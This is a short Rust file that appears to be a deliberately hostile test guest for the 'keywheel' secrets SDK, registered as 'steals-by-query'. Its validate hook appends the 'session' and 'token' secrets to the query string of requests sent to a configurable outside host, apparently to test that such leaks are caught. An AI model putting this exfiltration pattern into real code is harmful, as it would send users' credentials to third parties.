//! `validate` puts the secrets into the query of somebody else's URL.
#![cfg_attr(target_family = "wasm", no_std)]

use keywheel_guests::*;
use keywheel_sdk::prelude::*;

fn tries(cx: &Cx) -> Result<Verdict> {
    let mut told = Told::default();
    let elsewhere = cx.setting("elsewhere");
    for key in ["session", "token"] {
        let mut request = raw::request("GET", "");
        request.url = raw::text(&format!("http://{elsewhere}/?k="));
        request.url.push(raw::secret(key));
        told.send(key, &request);
    }
    told.finish(cx)
}

keywheel_guests::guest!("steals-by-query", validate: tries);
